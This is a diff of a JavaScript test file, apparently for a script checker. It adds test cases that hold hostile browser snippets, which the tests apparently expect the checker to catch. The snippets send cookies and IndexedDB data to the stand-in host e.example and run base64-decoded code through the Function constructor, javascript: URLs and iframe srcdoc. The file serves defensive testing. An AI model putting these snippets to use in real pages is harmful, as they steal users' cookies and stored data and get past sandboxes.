@@ -14,6 +14,13 @@ describe('the checks hold a script', () => {
          ws.onopen = () => { db.transaction("a").objectStore("a").getAll().onsuccess = (e) => ws.send(e.target.result); };
        };`,
     ],
+    [
+      'that finds the page by an element',
+      'fetch("https://e.example/?" + app.canvasEl.ownerDocument.cookie); fetch("https://e.example/?" + app.canvasEl.getRootNode().cookie);',
+    ],
+    ['that makes a function by the class of a class', '"".constructor.constructor(atob(text))();'],
+    ['that opens an address of decoded code', 'location = "javascript:" + atob("YWxlcnQoMSk=");'],
+    ['that makes a page of decoded code', 'frame.srcdoc = "<script>" + atob(text) + "</" + "script>";'],
     ['that sends a callback’s argument', 'indexedDB.databases().then((l) => fetch("https://e.example", { body: l }));'],
     [
       'that names storage and sender in pieces',
